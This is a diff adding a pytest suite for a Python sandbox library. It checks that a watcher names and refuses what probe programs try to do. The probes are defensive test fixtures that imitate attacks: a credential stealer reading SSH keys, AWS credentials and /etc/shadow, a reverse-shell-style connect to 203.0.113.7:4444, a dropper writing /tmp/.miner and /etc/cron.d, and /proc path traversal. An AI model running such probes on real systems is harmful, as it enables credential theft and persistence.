@@ -1,0 +1,438 @@
+"""What the code tried, with real sandboxes: each program is named for what it tried, and nothing is invented."""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import subprocess
+import sys
+import textwrap
+import time
+from pathlib import Path
+
+import pytest
+
+import sandbox_magic as sm
+from sandbox_magic.jail.attempts import watcher as watching
+from sandbox_magic.jail.sandbox import Sandbox
+
+
+@pytest.fixture(autouse=True)
+def _elsewhere(tmp_path, monkeypatch):
+    """What is saved is saved there."""
+    (tmp_path / "here").mkdir()
+    monkeypatch.chdir(tmp_path / "here")
+
+
+def traced(code, **options):
+    """Run code, watched."""
+    options = {"warm": False, "memory": "1G", **options}
+    result = sm.run(textwrap.dedent(code), trace=True, **options)
+    assert result.attempts is not None, result.isolation
+    return result
+
+
+def tried(result):
+    """Return what was tried, by kind and target."""
+    return {(row.kind, row.target): row for row in result.attempts}
+
+
+CALL = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+def call(number, *given):
+    ctypes.set_errno(0)
+    wide = [ctypes.c_long(each) if isinstance(each, int) else each for each in given]
+    return ctypes.get_errno() if libc.syscall(ctypes.c_long(number), *wide) == -1 else 0
+machine = os.uname().machine
+"""
+NUMBERS = (
+    "openat, open_by_handle, ptrace = {'x86_64': (257, 304, 101), 'aarch64': (56, 265, 117)}[machine]\nring = 425\n"
+)
+
+
+def test_a_credential_stealer_is_named_for_what_it_looked_for():
+    result = traced(
+        """
+        import os
+        for name in ("~/.ssh/id_rsa", "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.aws/credentials", "/etc/shadow"):
+            try:
+                open(os.path.expanduser(name)).read()
+            except OSError:
+                pass
+        """
+    )
+    rows = tried(result)
+    assert rows["open", "/home/sandbox/.ssh/id_rsa"].count == 2
+    assert {row.answer for row in result.attempts.refused} == {"not shared"}
+    assert len(result.attempts.refused) == 4
+    assert "It looked for SSH keys (3 times). There are none in the sandbox." in result.notes
+    assert "It looked for AWS credentials (once). There are none in the sandbox." in result.notes
+    assert not result.attempts.suggestion, "a secret is never suggested"
+
+
+def test_a_well_behaved_script_is_refused_nothing(tmp_path):
+    data = tmp_path / "data.csv"
+    data.write_text("a,b\n1,2\n")
+    result = traced(
+        """
+        import csv, json, sqlite3, decimal, tempfile
+        rows = list(csv.reader(open("data.csv")))
+        json.dump(rows, open("out.json", "w"))
+        with tempfile.NamedTemporaryFile() as file:
+            file.write(b"x")
+        sqlite3.connect("a.db").execute("create table t (x)")
+        """,
+        bind=data,
+        save="out.json",
+    )
+    assert result.ok
+    assert result.attempts.refused == ()
+    assert result.notes == ("Saved: out.json.",)
+    assert {("open", "data.csv"), ("open", "out.json")} <= set(tried(result))
+    assert result.attempts.ordinary > 20, "its own environment is one number"
+
+
+def test_a_reverse_shell_is_named_for_where_it_connects():
+    result = traced(
+        """
+        import socket, subprocess
+        s = socket.socket()
+        try:
+            s.connect(("203.0.113.7", 4444))
+        except OSError:
+            subprocess.run(["/bin/sh", "-c", "exit 0"])
+        """
+    )
+    rows = tried(result)
+    assert rows["connect", "203.0.113.7:4444"].answer == "no network"
+    assert rows["run", "/bin/sh"].answer == "allowed"
+    assert [mark.label for mark in result.timeline.marks] == ["no network: connect 203.0.113.7:4444"]
+
+
+def test_datagrams_are_named_with_their_address_and_a_service_of_its_own_is_allowed():
+    result = traced(
+        """
+        import socket
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        for address in (("198.51.100.1", 53), ("127.0.0.1", 9)):
+            try:
+                s.sendto(b"x", address)
+            except OSError:
+                pass
+        try:
+            socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")
+        except OSError:
+            pass
+        """
+    )
+    rows = tried(result)
+    assert rows["send", "198.51.100.1:53"].answer == "no network"
+    assert rows["send", "127.0.0.1:9"].answer == "allowed"
+    assert rows["connect", "/var/run/docker.sock"].answer == "not shared"
+    assert "It looked for the Docker socket (once). There are none in the sandbox." in result.notes
+
+
+def test_refused_calls_through_ctypes_are_named_and_answered_as_in_any_run():
+    code = (
+        CALL
+        + NUMBERS
+        + """
+import socket
+print(call(ptrace, 0, 0, 0, 0), call(open_by_handle, 0, 0, 0), call(ring, 4, 0))
+for family, kind in ((17, 3), (2, 3), (38, 5)):
+    try:
+        socket.socket(family, kind)
+    except OSError as error:
+        print(error.errno)
+print(call({"x86_64": 317, "aarch64": 277}[machine], 1, 8, 0))
+"""
+    )
+    result = traced(code)
+    assert result.stdout == sm.run(code, warm=False).stdout == "1 1 1\n1\n1\n1\n1\n"
+    names = {row.target: row.count for row in result.attempts if row.kind == "call"}
+    assert names == {"ptrace": 1, "open_by_handle_at": 1, "io_uring_setup": 1, "socket": 3}
+
+
+def test_a_dropper_is_named_for_what_it_writes_runs_and_removes():
+    result = traced(
+        """
+        import os, shutil, subprocess
+        shutil.copy("/bin/true", "/tmp/.miner")
+        os.chmod("/tmp/.miner", 0o755)
+        subprocess.run(["/tmp/.miner"])
+        os.rename("/tmp/.miner", "/tmp/.cache")
+        os.remove("/tmp/.cache")
+        for name in ("/etc/cron.d/x", "/usr/bin/x"):
+            try:
+                open(name, "w")
+            except OSError:
+                pass
+        try:
+            os.remove("/usr/bin/true")
+        except OSError:
+            pass
+        """
+    )
+    rows = tried(result)
+    for key in (("run", "/tmp/.miner"), ("rename", "/tmp/.miner -> /tmp/.cache"), ("remove", "/tmp/.cache")):
+        assert rows[key].answer == "allowed"
+    refused = {(row.kind, row.target) for row in result.attempts.refused}
+    assert refused == {("open", "/etc/cron.d/x"), ("open", "/usr/bin/x"), ("remove", "/usr/bin/true")}
+
+
+def test_a_name_through_proc_is_told_as_it_was_named():
+    result = traced(
+        """
+        for name in ("/proc/self/root/etc/shadow", "/usr/lib/../../etc/shadow"):
+            try:
+                open(name)
+            except OSError:
+                pass
+        """
+    )
+    assert {row.target for row in result.attempts.refused} == {
+        "/proc/self/root/etc/shadow",
+        "/usr/lib/../../etc/shadow",
+    }
+    assert "It looked for password hashes (2 times). There are none in the sandbox." in result.notes
+
+
+def test_an_undumpable_child_is_named_too():
+    result = traced(
+        """
+        import ctypes, os
+        if os.fork() == 0:
+            ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
+            try:
+                open("/root/.netrc")
+            except OSError:
+                os._exit(0)
+        os.wait()
+        """
+    )
+    assert ("open", "/root/.netrc") in tried(result)
+
+
+def test_a_static_binary_is_named_too():
+    program = shutil.which("ldconfig.real", path="/usr/sbin:/sbin") or "/usr/sbin/ldconfig"
+    assert b"ld-linux" not in Path(program).read_bytes()[:4096], "it names no loader"
+    result = traced(f"{program} -p -C /root/.pgpass || true", language="bash")
+    assert ("open", "/root/.pgpass") in tried(result)
+
+
+def test_a_shell_script_is_watched_as_a_cell_is():
+    result = traced("cat /root/.pgpass || true", language="bash")
+    assert tried(result)["open", "/root/.pgpass"].process == "cat"
+
+
+def test_a_hundred_threads_are_counted_to_the_last_call():
+    result = traced(
+        """
+        import threading
+        def look(number):
+            for _ in range(10):
+                try:
+                    open(f"/nowhere/{number % 7}")
+                except OSError:
+                    pass
+        threads = [threading.Thread(target=look, args=(number,)) for number in range(100)]
+        for thread in threads: thread.start()
+        for thread in threads: thread.join()
+        """,
+        processes=150,
+    )
+    assert sum(row.count for row in result.attempts if row.target.startswith("/nowhere/")) == 1000
+
+
+def test_signals_do_not_make_one_call_two():
+    result = traced(
+        """
+        import signal
+        signal.signal(signal.SIGALRM, lambda *_: None)
+        signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
+        for number in range(500):
+            try:
+                open("/nowhere/at/all")
+            except OSError:
+                pass
+        """
+    )
+    assert tried(result)["open", "/nowhere/at/all"].count == 500
+
+
+def test_a_name_that_cannot_be_read_is_said_to_be_hidden():
+    result = traced(CALL + NUMBERS + "print(call(openat, -100, 0x10, 0))")
+    assert result.stdout == "14\n", "EFAULT, as ever"
+    assert ("open", "(a name that it hid)") in tried(result)
+
+
+def test_a_name_cannot_write_to_the_terminal():
+    result = traced(
+        r"""
+        for name in ("/nowhere/\x1b[2J\u202ea", b"/nowhere/\xff\n<b>"):
+            try:
+                open(name)
+            except OSError:
+                pass
+        """
+    )
+    assert all(row.target.isprintable() for row in result.attempts)
+    assert "<b>" not in result._repr_mimebundle_()["text/html"]
+
+
+def test_the_list_is_bounded():
+    result = traced(
+        """
+        for number in range(2500):
+            try:
+                open(f"/nowhere/{number}")
+            except OSError:
+                pass
+        """
+    )
+    assert len(result.attempts) == 2000
+    assert result.attempts.more >= 500
+
+
+def test_what_is_not_shared_is_suggested_and_not_given(tmp_path):
+    file = tmp_path / "numbers.csv"
+    file.write_text("1")
+    result = traced(f"open({str(file)!r})")
+    assert result.outcome is sm.Outcome.FAILED
+    assert tried(result)["open", str(file)].answer == "not shared"
+    assert result.attempts.suggestion == f"--bind {file}"
+    assert traced("print(open('numbers.csv').read())", bind=file).attempts.refused == ()
+
+
+@pytest.mark.parametrize(
+    ("code", "options"),
+    [
+        ("print(1); 1 / 0", {}),
+        ("import os; os.kill(os.getpid(), 9)", {}),
+        ("while True: pass", {"timeout": 0.5}),
+        ("x = bytearray(10**9)", {"memory": "100M"}),
+        ("import subprocess; print(subprocess.run(['ls', '/'], capture_output=True, text=True).stdout)", {}),
+        ("open('a', 'w').write('b'); print(open('a').read())", {"save": "a"}),
+        ("from os import fork, wait\nfor _ in range(9):\n    fork() or exit()\n    wait()\nprint('end')", {}),
+    ],
+)
+def test_a_run_ends_the_same_watched_or_not(code, options):
+    plain, watched = (sm.run(code, warm=False, trace=trace, **options) for trace in (False, True))
+    for name in ("outcome", "exit_code", "signal", "stdout", "files"):
+        assert getattr(plain, name) == getattr(watched, name)
+    assert re.sub("0x[0-9a-f]+", "", plain.stderr) == re.sub("0x[0-9a-f]+", "", watched.stderr)
+    assert plain.attempts is None
+
+
+def test_a_spare_that_is_watched_lists_its_own_run_alone(spares):
+    for number in range(3):
+        result = traced(f"try: open('/nowhere/{number}')\nexcept OSError: pass", warm=True, preload="json")
+        assert {row.target for row in result.attempts} == {f"/nowhere/{number}"}
+        assert result.usage.warm is (number > 0)
+        assert spares.filled(30)
+    assert sm.run("pass", preload="json").attempts is None
+    assert not sm.run("pass", preload="json").usage.warm or spares.filled(30)
+
+
+def test_a_spare_that_is_watched_no_more_is_not_used(spares):
+    traced("pass", warm=True)
+    assert spares.filled(30)
+    (spare,) = spares._spares
+    spare.sandbox.watcher._process.kill()
+    spare.sandbox.watcher._process.wait()
+    result = traced("try: open('/nowhere')\nexcept OSError: pass", warm=True)
+    assert (result.usage.warm, result.attempts.complete, len(result.attempts)) == (False, True, 1)
+
+
+def test_the_cell_does_not_wait_for_a_notebook_that_computes():
+    """What answers is no thread of this interpreter: while it holds its lock the cell goes on."""
+    code = "import time\nbegan = time.monotonic()\nfor _ in range(1000):\n    open('/tmp/x', 'w').close()\n"
+    code += "print(time.monotonic() - began)"
+    with sm.stream(code, trace=True, warm=False) as run:
+        next(run)  # it is started
+        until = time.monotonic() + 4
+        held = 0
+        while time.monotonic() < until:
+            held += sum(range(200_000))  # holds the lock; nobody asks for events
+        for _ in run:
+            pass
+    assert float(run.result.stdout) < 3.0
+
+
+def test_when_what_watches_dies_the_run_ends_and_says_so():
+    code = "print('up', flush=True)\nwhile True: open('/tmp/x', 'w').close()"
+    with sm.stream(code, trace=True, warm=False) as run:
+        for event in run:
+            if isinstance(event, sm.Text):
+                run._loop.sandbox.watcher._process.kill()
+    assert run.result.outcome is not sm.Outcome.COMPLETED
+    assert not run.result.attempts.complete
+    assert any("ended before it" in note for note in run.result.notes)
+
+
+def unable(_self):
+    """Be a kernel that gives no listener."""
+    raise watching.NotWatched("the kernel gives no listener")
+
+
+def test_where_it_cannot_be_watched_it_says_so_and_strict_refuses(monkeypatch):
+    monkeypatch.setattr(watching.Watcher, "wait_until_watching", unable)
+    result = sm.run("print(1)", trace=True, warm=False)
+    assert (result.stdout, result.attempts) == ("1\n", None)
+    assert result.isolation["attempts"].strength == "none"
+    assert "not watched here" in result.isolation["attempts"].text
+    with pytest.raises(sm.SandboxUnavailable, match="attempts"):
+        sm.run("print(1)", trace=True, strict=True, warm=False)
+
+
+def test_a_sandbox_that_is_not_watched_has_the_filter_of_any_run(monkeypatch):
+    """What lets refused calls through is never in force alone."""
+    monkeypatch.setattr(watching.Watcher, "wait_until_watching", unable)
+    result = sm.run(CALL + NUMBERS + "print(call(ptrace, 0, 0, 0, 0), call(ring, 4, 0))", trace=True, warm=False)
+    assert result.stdout == "1 1\n"
+
+
+def test_the_command_prints_the_list(tmp_path):
+    script = tmp_path / "script.py"
+    script.write_text("try: open('/etc/shadow')\nexcept OSError: print('no')")
+    command = [sys.executable, "-P", "-m", "sandbox_magic", "run", "--trace", str(script)]
+    done = subprocess.run(command, capture_output=True, text=True, check=True)
+    assert done.stdout == "no\n"
+    assert "sandbox: It looked for password hashes (once). There are none in the sandbox.\n" in done.stderr
+    assert "sandbox: what it tried: 1 not allowed, " in done.stderr
+    assert re.search(r"sandbox:   open  /etc/shadow  1  \d\.\d{3} s  not shared\n", done.stderr)
+
+
+def test_a_session_refuses_to_be_watched():
+    with pytest.raises(sm.PolicyError, match="session lists no attempts"):
+        sm.Session(trace=True)
+
+
+def test_nothing_is_left(footprint):
+    traced("pass")
+    before = footprint()
+    for _ in range(3):
+        traced("open('/tmp/x', 'w')")
+    assert footprint() == before
+
+
+def test_the_listener_and_its_socket_are_not_in_the_cell():
+    code = "import os; print(sorted(int(each) for each in os.listdir('/proc/self/fd'))[:-1])"
+    assert traced(code).stdout == sm.run(code, warm=False).stdout
+
+
+def test_parking_says_which_filter_is_in_force():
+    """The process that runs the cell has one more filter than PID 1."""
+    sandbox = Sandbox.park(sm.Policy(trace=True))
+    try:
+        counts = []
+        for pid in (sandbox.pid, sandbox._cell_pid()):
+            with open(f"/proc/{pid}/status") as lines:
+                counts += [int(line.split()[1]) for line in lines if line.startswith("Seccomp_filters")]
+        assert counts == [] or counts[1] == counts[0] + 1
+        assert os.path.exists(f"/proc/{sandbox.watcher._process.pid}")
+    finally:
+        sandbox.close()
